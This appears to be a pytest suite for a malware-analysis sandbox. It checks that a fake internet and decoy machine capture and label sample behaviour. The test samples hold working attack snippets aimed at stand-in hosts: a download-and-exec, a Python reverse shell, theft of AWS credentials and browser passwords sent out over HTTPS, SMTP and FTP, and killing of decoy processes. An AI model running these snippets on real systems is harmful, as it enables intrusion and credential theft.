"""The fake internet and the plausible machine, against the real daemon and the built image: every name
resolves, every TCP connection and UDP datagram reaches the sink with its intended host, port and bytes,
the services answer like the real ones, the sample's own loopback servers still work, and the sample holds
no capability to change any of it."""

from __future__ import annotations

import base64
import os
import sqlite3

import pytest

from codeeval.errors import ToolError
from codeeval.execution import DockerSandbox, ExecJob, SandboxConfig, image

pytestmark = [pytest.mark.docker, pytest.mark.slow]


@pytest.fixture(scope="module")
def sandbox():
    try:
        image.check_image(image.connect(), SandboxConfig().image)
    except ToolError as exc:
        if os.environ.get("CODEEVAL_REQUIRE_DOCKER"):
            raise
        pytest.skip(f"sandbox not available: {exc}")
    with DockerSandbox(SandboxConfig.from_env(timeout_s=15)) as sb:
        if not sb.fake_internet:
            pytest.fail(f"image {sb.config.image} predates the fake internet: rebuild it (codeeval sandbox build)")
        yield sb


def run(sandbox, code: str, language: str = "python"):
    out = sandbox.run(ExecJob.from_code(code, language=language))
    assert out.raw is not None and out.raw["supervisor_error"] is None, out.raw
    return out


def sinks(out, port: int | None = None) -> list[dict]:
    return [r for r in out.raw["sink"] if port is None or r["port"] == port]


def payload(rec: dict) -> bytes:
    return base64.b64decode(rec["payload_b64"])


def ids(out) -> set[str]:
    return {b.id for b in out.result.behaviours}


def test_download_and_execute_gets_the_marked_payload_and_runs_it(sandbox):
    out = run(sandbox, """
import urllib.request
body = urllib.request.urlopen("http://203.0.113.99/stage2.py", timeout=5).read()
exec(body)
""")
    assert "codeeval-sink payload executed" in out.raw["stdout"], out.raw["stderr"]
    (rec,) = sinks(out, 80)
    assert (rec["dst"], rec["method"], rec["path"], rec["proto"]) == ("203.0.113.99:80", "GET", "/stage2.py", "http")
    assert rec["http"][0]["host"] == "203.0.113.99"
    assert "download_execute" in ids(out)


def test_raw_tcp_to_any_address_and_port_is_recorded_with_its_bytes(sandbox):
    out = run(sandbox, """
import socket
s = socket.create_connection(("198.51.100.7", 31337), timeout=3)
s.sendall(b"beacon:host=dev;id=42")
s.close()
socket.create_connection(("198.51.100.7", 8081), timeout=3).close()  # a port scan's connect-and-close
""")
    (scan,) = sinks(out, 8081)
    assert scan["proto"] == "raw" and scan["bytes"] == 0
    (rec,) = sinks(out, 31337)
    assert rec["dst"] == "198.51.100.7:31337" and payload(rec) == b"beacon:host=dev;id=42" and rec["bytes"] == 21
    assert "network.egress" in ids(out)


def test_every_name_resolves_to_its_own_fake_address_and_connections_carry_the_name(sandbox):
    out = run(sandbox, """
import socket
a = socket.gethostbyname("c2.evil-domain.example")
b = socket.gethostbyname("updates.example.org")
print(a, b, a == socket.gethostbyname("c2.evil-domain.example"))
s = socket.create_connection(("c2.evil-domain.example", 8443), timeout=3)
s.sendall(b"hi")
s.close()
""")
    a, b, same = out.raw["stdout"].split()
    assert a.startswith("198.1") and b.startswith("198.1") and a != b and same == "True"
    assert {d["qname"] for d in out.raw["dns"]} >= {"c2.evil-domain.example", "updates.example.org"}
    (rec,) = sinks(out, 8443)
    assert rec["host"] == "c2.evil-domain.example" and rec["dst"] == f"{a}:8443"


def test_udp_datagrams_are_captured_with_destination_and_size(sandbox):
    out = run(sandbox, """
import socket
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
u.sendto(b"x" * 700, ("192.0.2.55", 123))
""")
    (rec,) = [r for r in out.raw["udp"] if r["port"] == 123]
    assert rec["dst"] == "192.0.2.55:123" and rec["bytes"] == 700


def test_smtp_conversation_is_answered_and_recorded(sandbox):
    out = run(sandbox, """
import smtplib
from email.message import EmailMessage
m = EmailMessage()
m["From"], m["To"], m["Subject"] = "dev@acme-corp.com", "drop@evil.example", "keys"
m.set_content("the secret is hunter2")
with smtplib.SMTP("smtp.evil.example", 587, timeout=5) as s:
    s.login("user", "pass")
    s.send_message(m)
print("sent")
""")
    assert out.raw["stdout"] == "sent\n", out.raw["stderr"]
    (rec,) = sinks(out, 587)
    assert rec["proto"] == "smtp" and rec["host"] == "smtp.evil.example"
    assert rec["smtp"]["from"] == "<dev@acme-corp.com>" and rec["smtp"]["to"] == ["<drop@evil.example>"]
    assert rec["smtp"]["auth"] and b"hunter2" in payload(rec)


def test_reverse_shell_receives_a_command_and_its_answer_is_recorded(sandbox):
    out = run(sandbox, """
import os, socket, subprocess
s = socket.socket()
s.connect(("198.51.100.23", 4444))
for fd in (0, 1, 2):
    os.dup2(s.fileno(), fd)
subprocess.call(["/bin/sh", "-i"])
""")
    (rec,) = sinks(out, 4444)
    assert rec["proto"] == "shell" and rec["shell"]["command"] == "id", {k: v for k, v in rec.items() if k != "payload_b64"}
    assert "uid=10001" in rec["shell"]["answer"]
    assert "reverse_shell" in ids(out)


def test_a_local_server_of_the_sample_still_answers_its_own_client(sandbox):
    out = run(sandbox, """
import http.server, threading, urllib.request
class H(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        body = b"local-ok"
        self.send_response(200); self.send_header("Content-Length", str(len(body))); self.end_headers()
        self.wfile.write(body)
    def log_message(self, *a):
        pass
srv = http.server.HTTPServer(("127.0.0.1", 8000), H)
threading.Thread(target=srv.serve_forever, daemon=True).start()
print(urllib.request.urlopen("http://127.0.0.1:8000/", timeout=5).read().decode())
print(urllib.request.urlopen("http://localhost:8000/x", timeout=5).read().decode())
import socket
both = http.server.HTTPServer(("0.0.0.0", 8001), H)
threading.Thread(target=both.serve_forever, daemon=True).start()
print(urllib.request.urlopen(f"http://{socket.gethostname()}:8001/", timeout=5).read().decode())
""")
    assert out.raw["stdout"] == "local-ok\nlocal-ok\nlocal-ok\n", out.raw["stderr"]
    assert sinks(out) == [] and len(out.raw["loopback"]) == 3
    assert out.raw["dns"] == []  # the machine's own name is in /etc/hosts, as on Debian
    egress = [b for b in out.result.behaviours if b.id == "network.egress"]
    assert all(e.get("event") == "bind" for b in egress for e in b.evidence), egress  # only the 0.0.0.0 server


def test_a_loopback_port_nobody_listens_on_reaches_the_sink(sandbox):
    out = run(sandbox, """
import socket
s = socket.create_connection(("127.0.0.1", 5555), timeout=3)
s.sendall(b"to-nowhere")
s.close()
""")
    (rec,) = sinks(out, 5555)
    assert payload(rec) == b"to-nowhere"


def test_curl_from_bash_gets_http_and_https_pages(sandbox):
    out = run(sandbox, """
curl -sS http://example.com/ | head -c 200
echo
curl -sS https://example.com/api/v1/users
wget -qO- https://downloads.example.org/notes.txt
""", language="bash")
    assert "<html>" in out.raw["stdout"] and '"status": "ok"' in out.raw["stdout"], out.raw["stderr"]
    assert out.raw["stdout"].endswith("ok\n"), out.raw["stderr"]  # wget (GnuTLS) trusts the CA via ~/.wgetrc
    http, _wget, tls = sorted(sinks(out), key=lambda r: (r["port"], r["host"]))
    assert (http["host"], http["path"]) == ("example.com", "/")
    assert (tls["proto"], tls["host"], tls["tls"]["sni"], tls["path"]) == ("https", "example.com", "example.com",
                                                                          "/api/v1/users")


def test_https_exfiltration_is_seen_in_plaintext(sandbox):
    out = run(sandbox, """
import os, urllib.request
data = open(os.path.expanduser("~/.aws/credentials"), "rb").read()
urllib.request.urlopen(urllib.request.Request("https://collector.example.net/upload", data=data), timeout=5).read()
""")
    (rec,) = sinks(out, 443)
    assert rec["proto"] == "https" and rec["method"] == "POST" and b"aws_secret_access_key" in payload(rec)
    assert "exfiltration" in ids(out)


def test_ftp_upload_is_accepted_and_the_file_recorded(sandbox):
    out = run(sandbox, """
import ftplib, io
f = ftplib.FTP("ftp.example.org", timeout=5)
f.login("anonymous", "x@y")
f.storbinary("STOR loot.txt", io.BytesIO(b"stolen-data" * 10))
f.quit()
print("ok")
""")
    assert out.raw["stdout"] == "ok\n", out.raw["stderr"]
    (control,) = [r for r in sinks(out) if r["proto"] == "ftp"]
    (data,) = [r for r in sinks(out) if r["proto"] == "ftp-data"]
    assert control["ftp"]["stored"] == [{"name": "loot.txt", "bytes": 110}]
    assert payload(data) == b"stolen-data" * 10


def test_the_sample_holds_no_capability_and_cannot_change_the_redirect(sandbox):
    out = run(sandbox, """
import socket, subprocess
for line in open("/proc/self/status").read().splitlines():
    if line.startswith(("Uid:", "Gid:", "Groups:", "CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb", "NoNewPrivs")):
        print(line.replace("\\t", " ") + " -")
for cmd in (["/usr/sbin/iptables", "-t", "nat", "-F"], ["ip", "route", "del", "local", "0.0.0.0/0", "dev", "lo"],
            ["/usr/sbin/iptables-restore"]):
    print(cmd[0].rsplit("/", 1)[-1], subprocess.run(cmd, input=b"*nat\\nCOMMIT\\n", capture_output=True).returncode)
s = socket.create_connection(("198.51.100.7", 7777), timeout=3)
s.sendall(b"still-redirected")
s.close()
""")
    lines = {k: v.removesuffix("-").strip() for k, v in (ln.split(None, 1) for ln in out.raw["stdout"].splitlines())}
    assert lines["Uid:"].split() == ["10001"] * 4 and lines["Gid:"].split() == ["10001"] * 4
    assert lines["Groups:"] == ""
    for cap in ("CapInh:", "CapPrm:", "CapEff:", "CapBnd:", "CapAmb:"):
        assert int(lines[cap], 16) == 0, (cap, lines[cap])
    assert lines["NoNewPrivs:"] == "1"
    assert lines["iptables"] != "0" and lines["ip"] != "0" and lines["iptables-restore"] != "0"
    (rec,) = sinks(out, 7777)
    assert payload(rec) == b"still-redirected"


def test_decoy_services_carry_the_name_in_comm_and_cmdline_and_pkill_finds_one(sandbox):
    out = run(sandbox, """
import os, subprocess
seen = {}
for pid in filter(str.isdigit, os.listdir("/proc")):
    try:
        comm = open(f"/proc/{pid}/comm").read().strip()
        cmdline = open(f"/proc/{pid}/cmdline").read().replace("\\0", " ")
    except OSError:
        continue
    seen[comm] = cmdline
for name in ("sshd", "dockerd", "nginx", "mysqld", "postgres", "redis-server", "cron", "containerd"):
    print(name, name in seen and name in seen[name])
print("pkill", subprocess.run(["pkill", "-x", "sshd"]).returncode)
""")
    lines = dict(line.split() for line in out.raw["stdout"].splitlines())
    assert lines.pop("pkill") == "0"
    assert set(lines.values()) == {"True"}, lines
    assert {"pid", "name", "cmdline"} <= set(out.raw["decoys"][0])
    tamper = [b for b in out.result.behaviours if b.id == "process.tamper"]
    assert tamper and any(e.get("decoy") for e in tamper[0].evidence)


def test_the_machine_has_a_plausible_home_and_system_files(sandbox, tmp_path):
    out = sandbox.run(ExecJob.from_code("""
import os, shutil
home = os.path.expanduser("~")
for rel in (".bashrc", ".profile", ".bash_history", ".ssh/config", ".ssh/known_hosts", ".ssh/id_rsa.pub",
            ".gitconfig", ".git-credentials", ".docker/config.json", ".kube/config",
            ".mozilla/firefox/x7k2m9qd.default-release/logins.json"):
    print(rel, os.path.getsize(os.path.join(home, rel)) > 0)
for path in ("/var/log/syslog", "/var/log/auth.log", "/var/log/dpkg.log", "/usr/usrfile.txt",
             "/root/sensitive_info_root.txt"):
    print(path, len(open(path).read()) > 0)
shutil.copy(os.path.join(home, ".config/google-chrome/Default/Login Data"), "/work/logins.db")
""", collect=("logins.db",)))
    assert out.raw["supervisor_error"] is None
    assert {line.split()[1] for line in out.raw["stdout"].splitlines()} == {"True"}, out.raw["stdout"]
    db_path = tmp_path / "logins.db"
    db_path.write_bytes(out.artifacts["logins.db"])
    with sqlite3.connect(db_path) as db:
        (password,) = db.execute("select password_value from logins").fetchone()
    assert password.decode() == out.honeytokens.browser_password


def test_a_browser_password_sent_out_is_exfiltration(sandbox):
    out = run(sandbox, """
import os, sqlite3, urllib.request
db = sqlite3.connect(os.path.expanduser("~/.config/google-chrome/Default/Login Data"))
rows = db.execute("select origin_url, username_value, password_value from logins").fetchall()
urllib.request.urlopen("http://203.0.113.5/c?d=" + rows[0][2].decode(), timeout=5).read()
""")
    exf = [b for b in out.result.behaviours if b.id == "exfiltration"]
    assert exf and "browser_password" in exf[0].evidence[0]["canaries"]


def test_requests_and_httpx_trust_the_per_run_ca_over_https(sandbox):
    out = run(sandbox, """
import requests, httpx
print(requests.get("https://api.github.com/repos/x/y", timeout=5).json()["status"])
print(httpx.get("https://pypi.example.org/simple/pkg/", timeout=5).status_code)
""")
    assert out.raw["stdout"] == "ok\n200\n", out.raw["stderr"]
    hosts = sorted((r["host"], r["proto"]) for r in sinks(out, 443))
    assert hosts == [("api.github.com", "https"), ("pypi.example.org", "https")]


def test_a_psutil_kill_loop_finds_and_kills_a_decoy_and_is_tamper(sandbox):
    out = run(sandbox, """
import psutil
for p in psutil.process_iter(["name", "cmdline"]):
    if p.info["name"] in ("mysqld", "postgres") and p.info["name"] in " ".join(p.info["cmdline"] or []):
        p.kill()
        print("killed", p.info["name"])
""")
    assert sorted(out.raw["stdout"].split("\n")[:-1]) == ["killed mysqld", "killed postgres"], out.raw["stderr"]
    tamper = [b for b in out.result.behaviours if b.id == "process.tamper"]
    assert tamper and any(e.get("decoy") for e in tamper[0].evidence)
